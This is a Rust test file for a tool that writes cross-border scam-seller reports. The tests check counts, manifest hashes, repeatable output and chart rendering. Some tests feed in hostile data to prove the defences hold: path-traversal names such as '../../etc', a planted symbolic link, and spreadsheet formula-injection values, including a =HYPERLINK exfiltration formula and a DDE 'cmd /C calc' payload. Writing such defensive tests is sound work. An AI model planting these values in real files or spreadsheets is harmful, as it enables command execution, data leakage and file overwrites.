//! The cross-border report over a known data set written through the store API:
//! - `counts_filters_and_files`: the asserted counts per country, marketplace and kind of scam;
//!   filters by country; the manifest's hashes verify; a second run is byte-identical; the STIX
//!   bundles pass the independent `stix2` check.
//! - `html_renders_with_charts_in_chromium`: headless Chromium's screenshot shows the charts.
//! - `hostile_keys_stay_inside_out_and_never_collide`: countries `..` and `../../etc`, sellers
//!   `a/b` vs `a_b` and `AB` vs `ab`: every file under `--out`, none overwritten; a TLP:RED report
//!   is 0700/0600.
//! - `a_link_out_of_the_folder_is_refused`: a symbolic link planted in `--out` is not followed.
//! - `csv_cells_are_neutralised_and_parse_back`: a `=HYPERLINK(...)` seller name comes out as text.

mod common;

use std::path::{Path, PathBuf};
use std::process::Command;

use common::{day, files, json, params, row};
use sha2::{Digest, Sha256};
use soi_report::{cross_border, ReportParams};
use soi_sqlite::SqliteStore;
use soi_store::{Store, Tlp};

async fn known_store(dir: &Path) -> SqliteStore {
    let store = SqliteStore::open(&dir.join("soi.db")).unwrap();
    store.put_scored(common::known_rows()).await.unwrap();
    store
}

const HYPERLINK: &str = "=HYPERLINK(\"http://x/?\"&A1,\"x\")";

/// A store whose sellers have hostile ids, countries and names.
async fn hostile_store(dir: &Path) -> SqliteStore {
    let g = &["fake_giveaway"][..];
    let mut rows = vec![
        row("shopee", ("a/b", "..", true), "h1", 0.9, g, day(11, 2)),
        row("shopee", ("a_b", "..", true), "h2", 0.9, g, day(11, 2)),
        row(
            "shopee",
            ("../../x", "../../etc", true),
            "h3",
            0.9,
            g,
            day(11, 3),
        ),
        row("shopee", ("AB", "CN", true), "h4", 0.9, g, day(11, 4)),
        row("shopee", ("ab", "CN", true), "h5", 0.9, g, day(11, 4)),
        row("shopee", (".", "/", true), "h6", 0.9, g, day(11, 5)),
    ];
    if let Some(s) = rows[3].listing.seller.as_mut() {
        s.name = Some(HYPERLINK.into());
    }
    rows[3].listing.title = "@SUM(1+1)*cmd|' /C calc'!A0".into();
    let store = SqliteStore::open(&dir.join("soi.db")).unwrap();
    store.put_scored(rows).await.unwrap();
    store
}

fn red() -> ReportParams {
    ReportParams {
        tlp: Tlp::Red,
        ..params(None)
    }
}

#[tokio::test]
async fn hostile_keys_stay_inside_out_and_never_collide() {
    let tmp = tempfile::tempdir().unwrap();
    let store = hostile_store(tmp.path()).await;
    let base = tmp.path().join("deep/er");
    let out = base.join("out");
    let sum = cross_border(&store, &red(), &out, &|_| {}).await.unwrap();

    let all = files(&out);
    assert_eq!(
        all.len(),
        sum.files,
        "no file overwrote another: {:?}",
        all.keys()
    );
    let lower: std::collections::BTreeSet<String> = all.keys().map(|k| k.to_lowercase()).collect();
    assert_eq!(
        lower.len(),
        all.len(),
        "case-insensitive clash: {:?}",
        all.keys()
    );
    let dossiers = all.keys().filter(|k| k.contains("/dossiers/")).count();
    assert_eq!(
        dossiers,
        2 * 6,
        "one html and one json per seller: {:?}",
        all.keys()
    );
    let beside: Vec<_> = std::fs::read_dir(&base)
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(beside, ["out"], "nothing written beside --out");
    assert!(!tmp.path().join("etc").exists() && !tmp.path().join("deep/etc").exists());
    let m = json(out.join("manifest.json"));
    for f in m["files"].as_array().unwrap() {
        let p = f["path"].as_str().unwrap();
        assert!(all.contains_key(p), "manifest names {p}");
    }
    let index = String::from_utf8(all["index.html"].clone()).unwrap();
    for c in &sum.countries {
        assert!(index.contains(&format!(
            "{}/report.html",
            soi_report::names::file_name(&c.country)
        )));
    }

    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&out), 0o700);
        for rel in all.keys() {
            let p = out.join(rel);
            assert_eq!(mode(&p), 0o600, "{rel}");
            assert_eq!(mode(p.parent().unwrap()), 0o700, "{rel}");
        }
    }
}

#[cfg(unix)]
#[tokio::test]
async fn a_link_out_of_the_folder_is_refused() {
    let tmp = tempfile::tempdir().unwrap();
    let store = known_store(tmp.path()).await;
    let out = tmp.path().join("out");
    let elsewhere = tmp.path().join("elsewhere");
    std::fs::create_dir_all(&out).unwrap();
    std::fs::create_dir_all(&elsewhere).unwrap();
    std::os::unix::fs::symlink(&elsewhere, out.join("CN")).unwrap();
    let err = cross_border(&store, &params(None), &out, &|_| {})
        .await
        .unwrap_err();
    assert!(
        matches!(err, soi_report::ReportError::Escape { .. }),
        "{err}"
    );
    assert!(err.to_string().contains("CN"), "{err}");
    assert_eq!(std::fs::read_dir(&elsewhere).unwrap().count(), 0);
}

#[tokio::test]
async fn csv_cells_are_neutralised_and_parse_back() {
    let tmp = tempfile::tempdir().unwrap();
    let store = hostile_store(tmp.path()).await;
    let out = tmp.path().join("out");
    cross_border(&store, &params(Some("CN")), &out, &|_| {})
        .await
        .unwrap();
    let mut r = csv::Reader::from_path(out.join("CN/sellers.csv")).unwrap();
    let names: Vec<String> = r.records().map(|x| x.unwrap()[3].to_string()).collect();
    assert!(names.contains(&format!("'{HYPERLINK}")), "{names:?}");
    let mut r = csv::Reader::from_path(out.join("CN/listings.csv")).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert!(
        rows.iter().any(|x| &x[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"),
        "{rows:?}"
    );
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell}");
        }
    }
}

#[tokio::test]
async fn counts_filters_and_files() {
    let tmp = tempfile::tempdir().unwrap();
    let store = known_store(tmp.path()).await;
    let out = tmp.path().join("r1");
    let seen = std::sync::Mutex::new(Vec::new());
    let progress = |p: &soi_report::Progress| seen.lock().unwrap().push((p.done, p.total));
    let sum = cross_border(&store, &params(None), &out, &progress)
        .await
        .unwrap();
    let c: Vec<_> = sum
        .countries
        .iter()
        .map(|c| (c.country.as_str(), c.sellers, c.listings))
        .collect();
    assert_eq!(c, [("CN", 2, 5), ("KR", 1, 1)]);
    let seen = seen.into_inner().unwrap();
    assert_eq!(
        seen.last(),
        Some(&(sum.files, sum.files)),
        "progress reaches the end"
    );

    let cn = json(out.join("CN/summary.json"));
    assert_eq!(cn["by_marketplace"]["shopee"], serde_json::json!([1, 3]));
    assert_eq!(cn["by_marketplace"]["lazada"], serde_json::json!([1, 2]));
    assert_eq!(cn["by_reason"]["off_platform_contact"], 3);
    assert_eq!(cn["by_reason"]["blocklisted_domain"], 2);
    assert_eq!(cn["over_time"]["2026-11-05"], 2);
    let d = &cn["dossiers"][0];
    assert_eq!(d["seller"]["id"], "cn2", "lazada sorts before shopee");
    assert_eq!(d["first_seen"], "2026-11-20T09:30:00Z");
    assert_eq!(d["last_seen"], "2026-11-21T09:30:00Z");
    let sellers_csv =
        String::from_utf8(std::fs::read(out.join("CN/sellers.csv")).unwrap()).unwrap();
    assert_eq!(sellers_csv.lines().count(), 3);
    let listings_csv =
        String::from_utf8(std::fs::read(out.join("CN/listings.csv")).unwrap()).unwrap();
    assert_eq!(
        listings_csv.lines().count(),
        1 + 5 * 2,
        "one line per listing reason"
    );
    let html = String::from_utf8(std::fs::read(out.join("CN/report.html")).unwrap()).unwrap();
    assert!(html.contains("Tóm tắt") && html.contains("Summary"));
    assert!(
        html.contains("Cửa hàng cn1 &lt;b&gt;&amp;"),
        "names are escaped"
    );
    assert!(!html.contains("<script") && !html.contains("http://www.w3.org/2000/svg\" href"));
    assert!(out.join("KR/dossiers/shopee--kr1.html").exists());

    // The manifest's hashes verify and cover every other file.
    let m = json(out.join("manifest.json"));
    let all = files(&out);
    let listed = m["files"].as_array().unwrap();
    assert_eq!(listed.len(), all.len() - 1);
    for f in listed {
        let path = f["path"].as_str().unwrap();
        let bytes = &all[path];
        assert_eq!(
            f["sha256"].as_str().unwrap(),
            hex::encode(Sha256::digest(bytes)),
            "{path}"
        );
        assert_eq!(f["bytes"].as_u64().unwrap() as usize, bytes.len());
    }

    // Same data, second run: byte-identical.
    let out2 = tmp.path().join("r2");
    cross_border(&store, &params(None), &out2, &|_| {})
        .await
        .unwrap();
    assert_eq!(files(&out2), all, "two runs give identical bytes");

    // Filter by country.
    let out3 = tmp.path().join("r3");
    let s3 = cross_border(&store, &params(Some("kr")), &out3, &|_| {})
        .await
        .unwrap();
    assert_eq!(s3.countries.len(), 1);
    assert!(!out3.join("CN").exists());

    check_stix(&out);
}

fn check_stix(dir: &Path) {
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../soi-alert/tests/check_stix.py");
    let out = Command::new("python3")
        .arg(&script)
        .arg(dir)
        .output()
        .unwrap_or_else(|e| panic!("python3 is needed ({e}); run deploy/install-test-tools.sh"));
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "stix2 rejected a report bundle (run deploy/install-test-tools.sh if stix2 is missing):\n{text}");
    eprintln!("{}", text.trim());
}

fn chromium() -> PathBuf {
    for name in ["chromium", "chromium-browser"] {
        if let Ok(o) = Command::new("which").arg(name).output() {
            if o.status.success() {
                return PathBuf::from(String::from_utf8_lossy(&o.stdout).trim());
            }
        }
    }
    panic!("headless Chromium is needed for the report rendering test; run deploy/install-test-tools.sh");
}

#[tokio::test]
async fn html_renders_with_charts_in_chromium() {
    let browser = chromium();
    let tmp = tempfile::tempdir().unwrap();
    let store = known_store(tmp.path()).await;
    let out = tmp.path().join("r");
    cross_border(&store, &params(None), &out, &|_| {})
        .await
        .unwrap();
    let page = out.join("CN/report.html");
    let png_path = tmp.path().join("shot.png");
    let status = Command::new(browser)
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--hide-scrollbars",
        ])
        .arg(format!(
            "--user-data-dir={}",
            tmp.path().join("profile").display()
        ))
        .arg(format!("--screenshot={}", png_path.display()))
        .arg("--window-size=1200,1600")
        .arg(format!("file://{}", page.display()))
        .output()
        .unwrap();
    assert!(
        png_path.exists(),
        "chromium wrote no screenshot: {}",
        String::from_utf8_lossy(&status.stderr)
    );
    let decoder = png::Decoder::new(std::io::BufReader::new(
        std::fs::File::open(&png_path).unwrap(),
    ));
    let mut reader = decoder.read_info().unwrap();
    let mut buf = vec![0; reader.output_buffer_size()];
    let info = reader.next_frame(&mut buf).unwrap();
    let channels = info.color_type.samples();
    let (mut red, mut blue, mut ink) = (0usize, 0usize, 0usize);
    for px in buf[..info.buffer_size()].chunks(channels) {
        let (r, g, b) = (px[0] as i32, px[1] as i32, px[2] as i32);
        if (r - 0xc0).abs() < 24 && (g - 0x39).abs() < 24 && (b - 0x2b).abs() < 24 {
            red += 1; // bar charts
        } else if (r - 0x2e).abs() < 24 && (g - 0x6d).abs() < 24 && (b - 0xa4).abs() < 24 {
            blue += 1; // the over-time chart
        } else if r < 100 && g < 100 && b < 100 {
            ink += 1; // text
        }
    }
    eprintln!(
        "screenshot {}x{}: bar pixels {red}, column pixels {blue}, text pixels {ink}",
        info.width, info.height
    );
    assert!(red > 5_000, "bar charts not visible ({red} bar pixels)");
    assert!(
        blue > 2_000,
        "time chart not visible ({blue} column pixels)"
    );
    assert!(ink > 5_000, "text not visible ({ink} dark pixels)");
}
